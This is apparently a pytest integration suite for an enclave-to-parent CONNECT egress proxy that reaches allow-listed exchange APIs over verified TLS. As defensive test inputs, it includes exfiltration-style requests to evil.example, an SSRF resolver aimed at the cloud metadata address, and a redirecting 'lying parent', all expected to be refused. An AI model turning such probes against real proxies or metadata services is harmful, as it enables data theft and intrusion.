"""Egress on loopback: client -> enclave CONNECT proxy -> transport -> parent -> TLS server.

The "exchange" is an aiohttp HTTPS server on 127.0.0.1 with a trustme certificate
for the real name api.binance.com, reached through the parent's dev-only host
overrides; clients verify TLS against the test CA for the real name. Fakes (a tap,
silent or lying parents, resolvers) replace what cannot run on loopback.
"""

from __future__ import annotations

import asyncio
import contextlib
import socket
import ssl
import time
from collections.abc import AsyncIterator, Callable, Mapping
from dataclasses import dataclass, field
from typing import Any

import aiohttp
import pytest
import structlog
import trustme
from aiohttp import web
from prometheus_client import CollectorRegistry, generate_latest

from enclave.egress import EgressProxy, parent_egress_address
from parent.egress import ParentEgress, Resolver, parse_host_overrides
from parent.metrics import ApiMetrics
from shared.allowlist import Allowlist
from shared.connect import parse_connect_response
from shared.io.transport import PARENT_CID, TcpSimTransport, VsockAddress

ADDRESS = VsockAddress(cid=PARENT_CID, port=8001)
ALLOW = Allowlist.parse("api.binance.com:443,api.kraken.com:443,api.coinbase.com:443")
API_KEY = "canary-apikey-Zx81QmT4vL0pR7sKe2Wd"
SECRET_BODY = b"canary-secret-body-4f1e9b"
PATH = "/api/v3/account"


def free_port() -> int:
    """A TCP port on 127.0.0.1 nobody listens on right now."""
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


async def wait_until(predicate: Callable[[], bool], within: float = 3.0) -> None:
    """Poll ``predicate`` until it holds (tunnels tear down asynchronously)."""
    deadline = time.monotonic() + within
    while not predicate():
        assert time.monotonic() < deadline, "condition not reached in time"
        await asyncio.sleep(0.01)


def sample(registry: CollectorRegistry, name: str, **labels: str) -> float:
    """One sample's value, 0 when the series does not exist yet."""
    return registry.get_sample_value(name, labels) or 0.0


def connections_seen(registry: CollectorRegistry) -> float:
    """Every stream the parent's egress counted, whatever its host and outcome."""
    return sum(
        s.value
        for metric in registry.collect()
        for s in metric.samples
        if s.name == "egress_connections_total"
    )


# --------------------------------------------------------------------------- fakes


@pytest.fixture(scope="module")
def ca() -> trustme.CA:
    """The test CA (stands for the CA bundle baked into the enclave image)."""
    return trustme.CA()


@pytest.fixture
def client_ssl(ca: trustme.CA) -> ssl.SSLContext:
    """A verifying client context that trusts only the test CA."""
    context = ssl.create_default_context()
    ca.configure_trust(context)
    return context


@dataclass
class FakeExchange:
    """An HTTPS server for api.binance.com on 127.0.0.1 that records what it received."""

    port: int = 0
    api_keys: list[str] = field(default_factory=list)


@pytest.fixture
async def exchange(ca: trustme.CA) -> AsyncIterator[FakeExchange]:
    """The fake exchange: GET /api/v3/account checks the key, POST /echo echoes, GET /big."""
    fake = FakeExchange()

    async def account(request: web.Request) -> web.Response:
        fake.api_keys.append(request.headers.get("X-MBX-APIKEY", ""))
        return web.json_response({"ok": request.headers.get("X-MBX-APIKEY") == API_KEY})

    async def echo(request: web.Request) -> web.Response:
        return web.Response(body=await request.read())

    app = web.Application(client_max_size=16 * 1024 * 1024)
    app.router.add_get(PATH, account)
    app.router.add_post("/echo", echo)
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    ca.issue_cert("api.binance.com").configure_cert(context)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0, ssl_context=context)
    await site.start()
    fake.port = int(runner.addresses[0][1])
    yield fake
    await runner.cleanup()


class Tap:
    """A TCP relay in front of the parent's egress that records every byte, per stream."""

    def __init__(self, target_port: int) -> None:
        self.target_port = target_port
        self.streams: list[tuple[bytearray, bytearray]] = []  # (enclave->parent, parent->enclave)
        self.port = 0
        self._server: asyncio.Server | None = None

    async def start(self) -> None:
        self._server = await asyncio.start_server(self._handle, "127.0.0.1", 0)
        self.port = int(self._server.sockets[0].getsockname()[1])

    async def close(self) -> None:
        if self._server is not None:
            self._server.close()
            await self._server.wait_closed()

    async def _handle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        up_reader, up_writer = await asyncio.open_connection("127.0.0.1", self.target_port)
        outbound, inbound = bytearray(), bytearray()
        self.streams.append((outbound, inbound))

        async def copy(
            src: asyncio.StreamReader, dst: asyncio.StreamWriter, record: bytearray
        ) -> None:
            with contextlib.suppress(ConnectionError, OSError):
                while data := await src.read(65536):
                    record += data
                    dst.write(data)
                    await dst.drain()
                if dst.can_write_eof():
                    dst.write_eof()

        await asyncio.gather(copy(reader, up_writer, outbound), copy(up_reader, writer, inbound))
        writer.close()
        up_writer.close()


@dataclass
class Stack:
    """The enclave's proxy and the parent's egress, wired over the TCP simulator."""

    proxy: EgressProxy
    parent: ParentEgress
    transport: TcpSimTransport
    registry: CollectorRegistry


@contextlib.asynccontextmanager
async def build_stack(
    overrides: Mapping[tuple[str, int], tuple[str, int]],
    *,
    enclave_allow: Allowlist = ALLOW,
    parent_allow: Allowlist = ALLOW,
    resolver: Resolver | None = None,
    tap: Tap | None = None,
    proxy_options: Mapping[str, Any] | None = None,
    parent_options: Mapping[str, Any] | None = None,
) -> AsyncIterator[Stack]:
    """Start a parent egress and an enclave proxy; with ``tap``, the enclave's streams
    go through it (the enclave's port map points at the tap, the parent's at itself)."""
    parent_port = free_port()
    parent_transport = TcpSimTransport({ADDRESS: parent_port})
    registry = CollectorRegistry()
    parent = ParentEgress(
        parent_transport,
        address=ADDRESS,
        allowlist=parent_allow,
        host_overrides=overrides,
        registry=registry,
        resolver=resolver,
        **{"head_timeout": 1.0, "connect_timeout": 1.0, "idle_timeout": 10.0}
        | dict(parent_options or {}),
    )
    await parent.start()
    enclave_transport = parent_transport
    if tap is not None:
        tap.target_port = parent_port
        await tap.start()
        enclave_transport = TcpSimTransport({ADDRESS: tap.port})
    proxy = EgressProxy(
        enclave_transport,
        allowlist=enclave_allow,
        parent_address=parent_egress_address(ADDRESS.port),
        **{"head_timeout": 1.0, "connect_timeout": 1.5, "idle_timeout": 10.0}
        | dict(proxy_options or {}),
    )
    await proxy.start()
    try:
        yield Stack(proxy=proxy, parent=parent, transport=parent_transport, registry=registry)
    finally:
        await proxy.close()
        await parent.close()
        if tap is not None:
            await tap.close()


@pytest.fixture
async def stack(exchange: FakeExchange) -> AsyncIterator[Stack]:
    """Binance and Coinbase overridden to the fake exchange; Kraken to a dead port."""
    overrides = {
        ("api.binance.com", 443): ("127.0.0.1", exchange.port),
        ("api.coinbase.com", 443): ("127.0.0.1", exchange.port),
        ("api.kraken.com", 443): ("127.0.0.1", free_port()),
    }
    async with build_stack(overrides) as built:
        yield built


async def connect_raw(
    port: int, target: str, extra: bytes = b""
) -> tuple[bytes, asyncio.StreamReader, asyncio.StreamWriter]:
    """Send a CONNECT for ``target`` to 127.0.0.1:port; return the response head and the stream."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    writer.write(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode() + extra)
    head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 3.0)
    return head, reader, writer


def tls_records(data: bytes) -> list[int]:
    """Content types of the TLS records that make up ``data`` exactly (RFC 8446 section 5.1)."""
    types: list[int] = []
    offset = 0
    while offset < len(data):
        assert offset + 5 <= len(data), "truncated record header"
        content_type, major, minor = data[offset], data[offset + 1], data[offset + 2]
        length = int.from_bytes(data[offset + 3 : offset + 5], "big")
        assert content_type in (20, 21, 22, 23), f"not a TLS content type: {content_type}"
        assert (major, minor) in ((3, 1), (3, 2), (3, 3)), "not a TLS record version"
        assert length <= 2**14 + 256, "record longer than TLSCiphertext allows"
        types.append(content_type)
        offset += 5 + length
    assert offset == len(data), "bytes after the last record"
    return types


# --------------------------------------------------------------------------- full path


async def test_aiohttp_request_succeeds_end_to_end(
    stack: Stack, exchange: FakeExchange, client_ssl: ssl.SSLContext
) -> None:
    """aiohttp through the enclave proxy reaches the real-named TLS server and verifies it."""
    async with aiohttp.ClientSession() as session:
        response = await session.get(
            f"https://api.binance.com{PATH}",
            proxy=stack.proxy.url,
            ssl=client_ssl,
            headers={"X-MBX-APIKEY": API_KEY},
        )
        assert response.status == 200
        assert await response.json() == {"ok": True}
    assert exchange.api_keys == [API_KEY]
    assert (
        sample(stack.registry, "egress_connections_total", host="api.binance.com:443", outcome="ok")
        == 1
    )


async def test_raw_tls_client_succeeds_end_to_end(
    stack: Stack, exchange: FakeExchange, client_ssl: ssl.SSLContext
) -> None:
    """A hand-written CONNECT then TLS with server_hostname=api.binance.com gets the answer."""
    head, reader, writer = await connect_raw(stack.proxy.port, "api.binance.com:443")
    assert head == b"HTTP/1.1 200 Connection established\r\n\r\n"
    await writer.start_tls(client_ssl, server_hostname="api.binance.com")
    tls = writer.get_extra_info("ssl_object")
    assert tls.getpeercert()["subjectAltName"] == (("DNS", "api.binance.com"),)
    writer.write(
        f"GET {PATH} HTTP/1.1\r\nHost: api.binance.com\r\nX-MBX-APIKEY: {API_KEY}\r\n"
        "Connection: close\r\n\r\n".encode()
    )
    answer = await asyncio.wait_for(reader.read(), 3.0)
    assert answer.startswith(b"HTTP/1.1 200 OK")
    assert answer.endswith(b'{"ok": true}')
    writer.close()


async def test_override_does_not_change_the_verified_name(
    stack: Stack, client_ssl: ssl.SSLContext
) -> None:
    """api.coinbase.com overridden to the binance server fails hostname verification."""
    async with aiohttp.ClientSession() as session:
        with pytest.raises(aiohttp.ClientConnectorCertificateError):
            await session.get("https://api.coinbase.com/", proxy=stack.proxy.url, ssl=client_ssl)


async def test_client_without_the_ca_refuses_the_certificate(stack: Stack) -> None:
    """TLS is end to end: a client that does not trust the test CA fails the handshake."""
    async with aiohttp.ClientSession() as session:
        with pytest.raises(aiohttp.ClientConnectorCertificateError):
            await session.get(f"https://api.binance.com{PATH}", proxy=stack.proxy.url)


async def test_parent_relays_only_tls_records(
    exchange: FakeExchange, client_ssl: ssl.SSLContext
) -> None:
    """Everything crossing the transport after the CONNECT heads is TLS; no key, path or body."""
    tap = Tap(0)
    overrides = {("api.binance.com", 443): ("127.0.0.1", exchange.port)}
    async with build_stack(overrides, tap=tap) as stack:
        async with aiohttp.ClientSession() as session:
            response = await session.get(
                f"https://api.binance.com{PATH}?signature={API_KEY}",
                proxy=stack.proxy.url,
                ssl=client_ssl,
                headers={"X-MBX-APIKEY": API_KEY},
            )
            assert await response.json() == {"ok": True}
            response = await session.post(
                "https://api.binance.com/echo",
                data=SECRET_BODY,
                proxy=stack.proxy.url,
                ssl=client_ssl,
            )
            assert await response.read() == SECRET_BODY
        await wait_until(lambda: stack.parent.active_tunnels == 0)
    assert len(tap.streams) == 1  # one kept-alive tunnel carried both requests
    outbound, inbound = (bytes(b) for b in tap.streams[0])
    request_head = b"CONNECT api.binance.com:443 HTTP/1.1\r\nHost: api.binance.com:443\r\n\r\n"
    assert outbound.startswith(request_head)  # the client's own fields were not forwarded
    response_head = b"HTTP/1.1 200 Connection established\r\n\r\n"
    assert inbound.startswith(response_head)
    sent = tls_records(outbound[len(request_head) :])
    received = tls_records(inbound[len(response_head) :])
    assert sent[0] == 22 and received[0] == 22  # handshakes first
    assert 23 in sent and 23 in received  # then application data, both ways
    for captured in (outbound, inbound):
        for secret in (API_KEY.encode(), SECRET_BODY, PATH.encode(), b"X-MBX-APIKEY", b"aiohttp"):
            assert secret not in captured


# --------------------------------------------------------------------------- refusals


async def test_denied_host_is_refused_inside_the_enclave(stack: Stack) -> None:
    """A host outside the allowlist gets 403 naming it from the enclave; the parent sees nothing."""
    started = time.monotonic()
    async with aiohttp.ClientSession() as session:
        with pytest.raises(aiohttp.ClientHttpProxyError) as info:
            await session.get("https://evil.example/steal", proxy=stack.proxy.url)
    assert time.monotonic() - started < 2.0
    assert info.value.status == 403
    assert "evil.example:443" in info.value.message
    assert stack.proxy.stats()["denied"] == 1
    await asyncio.sleep(0.05)
    assert connections_seen(stack.registry) == 0


async def test_denied_host_is_refused_by_the_parent(stack: Stack) -> None:
    """Talking to the parent egress directly, a target outside its allowlist gets 403."""
    reader, writer = await stack.transport.open_connection(ADDRESS)
    writer.write(
        b"CONNECT evil-canary.example:443 HTTP/1.1\r\nHost: evil-canary.example:443\r\n\r\n"
    )
    head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 2.0)
    assert parse_connect_response(head).status == 403
    assert await asyncio.wait_for(reader.read(), 2.0) == b""  # and the stream is closed
    writer.close()
    await wait_until(lambda: connections_seen(stack.registry) == 1)
    assert sample(stack.registry, "egress_connections_total", host="denied", outcome="denied") == 1
    # Labels come from the allowlist, never from what the enclave asked for.
    assert b"evil-canary" not in generate_latest(stack.registry)


async def test_parent_allowlist_applies_when_the_enclave_allows_more(
    exchange: FakeExchange,
) -> None:
    """The enclave allows api.coinbase.com but the parent does not: the client gets 403 promptly."""
    async with build_stack(
        {}, enclave_allow=ALLOW, parent_allow=Allowlist.parse("api.binance.com:443")
    ) as stack:
        async with aiohttp.ClientSession() as session:
            with pytest.raises(aiohttp.ClientHttpProxyError) as info:
                await session.get("https://api.coinbase.com/", proxy=stack.proxy.url)
        assert info.value.status == 403
        assert "api.coinbase.com:443" in info.value.message
        assert stack.proxy.stats()["refused_by_parent"] == 1
        assert (
            sample(stack.registry, "egress_connections_total", host="denied", outcome="denied") == 1
        )


async def test_unreachable_host_is_a_prompt_502(stack: Stack) -> None:
    """An allow-listed destination with nothing listening answers 502 in well under 2 s."""
    started = time.monotonic()
    async with aiohttp.ClientSession() as session:
        with pytest.raises(aiohttp.ClientHttpProxyError) as info:
            await session.get("https://api.kraken.com/0/public/Time", proxy=stack.proxy.url)
    assert time.monotonic() - started < 2.0
    assert info.value.status == 502
    assert stack.proxy.stats()["failed"] == 1
    assert (
        sample(
            stack.registry,
            "egress_connections_total",
            host="api.kraken.com:443",
            outcome="unreachable",
        )
        == 1
    )


async def test_parent_egress_down_is_a_prompt_502() -> None:
    """With nothing on the parent's egress address, the enclave proxy answers 502 promptly."""
    proxy = EgressProxy(TcpSimTransport({ADDRESS: free_port()}), allowlist=ALLOW)
    await proxy.start()
    try:
        started = time.monotonic()
        async with aiohttp.ClientSession() as session:
            with pytest.raises(aiohttp.ClientHttpProxyError) as info:
                await session.get("https://api.binance.com/", proxy=proxy.url)
        assert time.monotonic() - started < 2.0
        assert info.value.status == 502
        assert proxy.stats()["failed"] == 1
    finally:
        await proxy.close()


async def never_resolves(host: str, port: int) -> list[str]:
    """A resolver that hangs (a black-holed DNS server)."""
    await asyncio.Event().wait()
    raise AssertionError("unreachable")


async def resolves_inside(host: str, port: int) -> list[str]:
    """A resolver pointing the name at the metadata service, the VPC and loopback."""
    return ["169.254.169.254", "10.0.0.5", "127.0.0.1", "::1", "fe80::1%eth0"]


async def does_not_resolve(host: str, port: int) -> list[str]:
    """A resolver that fails like getaddrinfo (NXDOMAIN)."""
    raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")


@pytest.mark.parametrize(
    ("resolver", "status", "outcome", "enclave_outcome"),
    [
        (never_resolves, 504, "timeout", "timeouts"),
        (resolves_inside, 403, "blocked", "refused_by_parent"),
        (does_not_resolve, 502, "unreachable", "failed"),
    ],
)
async def test_parent_resolution_failures_are_prompt_errors(
    resolver: Resolver, status: int, outcome: str, enclave_outcome: str
) -> None:
    """DNS timeout -> 504, only non-public addresses -> 403, no such name -> 502, all bounded."""
    async with build_stack({}, resolver=resolver, parent_options={"connect_timeout": 0.3}) as stack:
        started = time.monotonic()
        head, _reader, writer = await connect_raw(stack.proxy.port, "api.binance.com:443")
        assert time.monotonic() - started < 2.0
        assert parse_connect_response(head).status == status
        writer.close()
        assert stack.proxy.stats()[enclave_outcome] == 1
        assert (
            sample(
                stack.registry,
                "egress_connections_total",
                host="api.binance.com:443",
                outcome=outcome,
            )
            == 1
        )


@contextlib.asynccontextmanager
async def fake_parent(answer: bytes | None) -> AsyncIterator[TcpSimTransport]:
    """A parent egress that reads the head and answers ``answer`` (None: never answers)."""

    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await reader.readuntil(b"\r\n\r\n")
        if answer is None:
            await reader.read()  # say nothing until the proxy hangs up
        else:
            writer.write(answer)
            await writer.drain()
        writer.close()

    transport = TcpSimTransport({ADDRESS: free_port()})
    server = await transport.start_server(handle, ADDRESS)
    try:
        yield transport
    finally:
        server.close()


@pytest.mark.parametrize(
    ("answer", "status", "reason"),
    [
        (None, 504, "Parent egress did not answer in time"),
        (b"", 502, "Parent egress closed or answered badly"),
        (b"garbage\r\n\r\n", 502, "Parent egress closed or answered badly"),
        (
            b"HTTP/1.1 403 pwned by parent\r\n\r\n",
            403,
            "Refused by the parent egress allowlist: api.binance.com:443",
        ),
        (
            b"HTTP/1.1 302 Found\r\nLocation: http://evil.example/\r\n\r\n",
            502,
            "Destination unreachable via parent egress",
        ),
        (b"HTTP/1.1 504 slow\r\n\r\n", 504, "Parent egress timed out connecting"),
    ],
)
async def test_parent_answers_map_to_fixed_reasons(
    answer: bytes | None, status: int, reason: str
) -> None:
    """A silent, lying or failing parent gives the client a prompt status with our own reason."""
    async with fake_parent(answer) as transport:
        proxy = EgressProxy(transport, allowlist=ALLOW, connect_timeout=0.5)
        await proxy.start()
        try:
            started = time.monotonic()
            head, _reader, writer = await connect_raw(proxy.port, "api.binance.com:443")
            assert time.monotonic() - started < 2.0
            assert parse_connect_response(head).status == status
            assert parse_connect_response(head).reason == reason
            writer.close()
        finally:
            await proxy.close()


@pytest.mark.parametrize(
    ("request_bytes", "status"),
    [
        (b"GET http://api.binance.com/ HTTP/1.1\r\nHost: api.binance.com\r\n\r\n", 405),
        (b"CONNECT api.binance.com HTTP/1.1\r\nHost: api.binance.com\r\n\r\n", 400),
        (b"CONNECT user:pw@api.binance.com:443 HTTP/1.1\r\nHost: x.com\r\n\r\n", 400),
        (b"CONNECT api.binance.com:443 HTTP/1.1\r\nX: " + b"a" * 9000, 431),
        (b"CONNECT api.binance.com:443 HTTP/1.1\r\n", 408),  # never finished
    ],
)
@pytest.mark.parametrize("side", ["enclave", "parent"])
async def test_bad_heads_get_4xx_on_both_sides(
    stack: Stack, side: str, request_bytes: bytes, status: int
) -> None:
    """Malformed, plain-HTTP, oversized and unfinished heads get their status promptly."""
    if side == "enclave":
        reader, writer = await asyncio.open_connection("127.0.0.1", stack.proxy.port)
    else:
        reader, writer = await stack.transport.open_connection(ADDRESS)
    writer.write(request_bytes)
    started = time.monotonic()
    head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 3.0)
    assert time.monotonic() - started < 2.0
    assert parse_connect_response(head).status == status
    writer.close()
    if side == "enclave":
        assert stack.proxy.stats()["bad_requests"] == 1
        assert connections_seen(stack.registry) == 0
    else:
        await wait_until(lambda: connections_seen(stack.registry) == 1)
        assert (
            sample(
                stack.registry, "egress_connections_total", host="invalid", outcome="bad_request"
            )
            == 1
        )


async def test_plain_http_through_the_proxy_is_refused(stack: Stack) -> None:
    """An http:// request (which the parent could read) gets 405 instead of being forwarded."""
    async with aiohttp.ClientSession() as session:
        response = await session.get("http://api.binance.com/api/v3/time", proxy=stack.proxy.url)
        assert response.status == 405
        assert response.headers["Allow"] == "CONNECT"
    assert connections_seen(stack.registry) == 0


# --------------------------------------------------------------------------- tunnels


@contextlib.asynccontextmanager
async def echo_server() -> AsyncIterator[int]:
    """A plain TCP echo server on 127.0.0.1; yields its port."""

    async def echo(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(ConnectionError, OSError):
            while data := await reader.read(65536):
                writer.write(data)
                await writer.drain()
        writer.close()

    server = await asyncio.start_server(echo, "127.0.0.1", 0)
    try:
        yield int(server.sockets[0].getsockname()[1])
    finally:
        server.close()


async def test_bytes_pipelined_after_the_head_are_delivered() -> None:
    """A client that sends data right behind its CONNECT head loses none of it."""
    async with (
        echo_server() as port,
        build_stack({("api.kraken.com", 443): ("127.0.0.1", port)}) as stack,
    ):
        head, reader, writer = await connect_raw(
            stack.proxy.port, "api.kraken.com:443", extra=b"\x16\x03\x01early-bytes"
        )
        assert head.startswith(b"HTTP/1.1 200 ")
        assert await asyncio.wait_for(reader.readexactly(14), 2.0) == b"\x16\x03\x01early-bytes"
        writer.close()


async def test_counters_follow_the_bytes(stack: Stack, client_ssl: ssl.SSLContext) -> None:
    """Enclave stats and parent Prometheus counters agree on tunnels and bytes each way."""
    payload = bytes(range(256)) * 4096  # 1 MiB
    async with aiohttp.ClientSession() as session:
        response = await session.post(
            "https://api.binance.com/echo", data=payload, proxy=stack.proxy.url, ssl=client_ssl
        )
        assert await response.read() == payload
        assert stack.proxy.stats()["active"] == 1
        assert sample(stack.registry, "egress_active_tunnels") == 1
    await wait_until(
        lambda: stack.parent.active_tunnels == 0 and stack.proxy.stats()["active"] == 0
    )
    stats = stack.proxy.stats()
    assert stats["connections"] == stats["opened"] == 1
    assert stats["bytes_sent"] > len(payload)
    assert stats["bytes_received"] > len(payload)
    assert sample(stack.registry, "egress_bytes_total", direction="outbound") == stats["bytes_sent"]
    assert (
        sample(stack.registry, "egress_bytes_total", direction="inbound") == stats["bytes_received"]
    )
    assert (
        sample(stack.registry, "egress_connections_total", host="api.binance.com:443", outcome="ok")
        == 1
    )
    assert sample(stack.registry, "egress_active_tunnels") == 0


async def test_tunnel_limits_answer_503(stack: Stack) -> None:
    """Past max_tunnels, the enclave proxy and the parent answer 503 instead of queueing."""
    async with (
        echo_server() as port,
        build_stack(
            {("api.kraken.com", 443): ("127.0.0.1", port)},
            proxy_options={"max_tunnels": 1},
            parent_options={"max_tunnels": 1},
        ) as limited,
    ):
        head, _r1, first = await connect_raw(limited.proxy.port, "api.kraken.com:443")
        assert head.startswith(b"HTTP/1.1 200 ")
        head, _r2, second = await connect_raw(limited.proxy.port, "api.kraken.com:443")
        assert parse_connect_response(head).status == 503
        reader, direct = await limited.transport.open_connection(ADDRESS)
        direct.write(b"CONNECT api.kraken.com:443 HTTP/1.1\r\nHost: api.kraken.com:443\r\n\r\n")
        head = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 2.0)
        assert parse_connect_response(head).status == 503
        assert limited.proxy.stats()["busy"] == 1
        assert (
            sample(
                limited.registry,
                "egress_connections_total",
                host="api.kraken.com:443",
                outcome="busy",
            )
            == 1
        )
        for writer in (first, second, direct):
            writer.close()


async def test_idle_tunnels_are_closed() -> None:
    """A tunnel with no traffic for idle_timeout is torn down on both sides."""
    async with (
        echo_server() as port,
        build_stack(
            {("api.kraken.com", 443): ("127.0.0.1", port)},
            proxy_options={"idle_timeout": 0.3},
            parent_options={"idle_timeout": 0.3},
        ) as stack,
    ):
        head, reader, writer = await connect_raw(stack.proxy.port, "api.kraken.com:443")
        assert head.startswith(b"HTTP/1.1 200 ")
        started = time.monotonic()
        assert await asyncio.wait_for(reader.read(), 2.0) == b""
        assert time.monotonic() - started < 1.5
        await wait_until(lambda: stack.parent.active_tunnels == 0)
        writer.close()


async def test_logs_carry_host_port_and_outcome_only(
    stack: Stack, client_ssl: ssl.SSLContext
) -> None:
    """Egress logs name host:port and outcomes; never a path, a query, a header or a key."""
    with structlog.testing.capture_logs() as logs:
        async with aiohttp.ClientSession() as session:
            response = await session.get(
                f"https://api.binance.com{PATH}?signature={API_KEY}",
                proxy=stack.proxy.url,
                ssl=client_ssl,
                headers={"X-MBX-APIKEY": API_KEY},
            )
            await response.read()
            with pytest.raises(aiohttp.ClientHttpProxyError):
                await session.get("https://evil.example/x?token=abc", proxy=stack.proxy.url)
        await wait_until(lambda: stack.parent.active_tunnels == 0)
    text = repr(logs)
    for secret in (API_KEY, PATH, "token=abc", "/x"):
        assert secret not in text
    denied = [entry for entry in logs if entry["event"] == "egress_denied"]
    assert denied == [
        {
            "event": "egress_denied",
            "log_level": "warning",
            "target": "evil.example:443",
            "by": "enclave",
        }
    ]
    closed = {entry["target"] for entry in logs if entry["event"] == "egress_tunnel_closed"}
    assert closed == {"api.binance.com:443"}


# --------------------------------------------------------------------------- configuration


def test_host_overrides_are_refused_in_production() -> None:
    """EGRESS_HOST_OVERRIDES is a development shortcut: production refuses to start with it."""
    transport = TcpSimTransport({ADDRESS: free_port()})
    overrides = {("api.binance.com", 443): ("127.0.0.1", 18443)}
    with pytest.raises(ValueError, match="production"):
        ParentEgress(
            transport, address=ADDRESS, allowlist=ALLOW, host_overrides=overrides, production=True
        )
    ParentEgress(transport, address=ADDRESS, allowlist=ALLOW, production=True)  # no overrides: fine


def test_host_overrides_only_for_allow_listed_targets() -> None:
    """An override for a target outside the allowlist is a configuration error."""
    with pytest.raises(ValueError, match="not allow-listed"):
        ParentEgress(
            TcpSimTransport({ADDRESS: free_port()}),
            address=ADDRESS,
            allowlist=ALLOW,
            host_overrides={("evil.example", 443): ("127.0.0.1", 1)},
        )


def test_parse_host_overrides() -> None:
    """'host:port=host:port,...' parses; malformed or duplicate entries name the entry."""
    assert parse_host_overrides(
        " api.binance.com:443=127.0.0.1:18443, API.Kraken.com:443=localhost:9 ,"
    ) == {
        ("api.binance.com", 443): ("127.0.0.1", 18443),
        ("api.kraken.com", 443): ("localhost", 9),
    }
    for bad in (
        "api.binance.com:443",
        "api.binance.com=127.0.0.1:1",
        "a.com:443=b.com",
        "a.com:1=b.com:1,a.com:1=c.com:1",
    ):
        with pytest.raises(ValueError, match="override"):
            parse_host_overrides(bad)


def test_enclave_proxy_listens_on_loopback_only() -> None:
    """The enclave proxy refuses a non-loopback address: it must never be an open proxy."""
    transport = TcpSimTransport({ADDRESS: free_port()})
    for host in ("0.0.0.0", "10.0.0.1"):
        with pytest.raises(ValueError, match="loopback"):
            EgressProxy(transport, allowlist=ALLOW, host=host)


def test_parent_egress_plugs_into_the_api_registry() -> None:
    """Given the API's registry, the egress series are exported with the API's /metrics."""
    metrics = ApiMetrics()
    ParentEgress(
        TcpSimTransport({ADDRESS: free_port()}),
        address=ADDRESS,
        allowlist=ALLOW,
        registry=metrics.registry,
    )
    text = metrics.render().decode()
    assert "egress_active_tunnels 0.0" in text
    assert "# TYPE egress_connections_total counter" in text
    assert "# HELP http_requests_total" in text


def test_parent_address_default() -> None:
    """The enclave dials the parent at CID 3, port 8001 unless told otherwise."""
    assert parent_egress_address() == VsockAddress(cid=3, port=8001)
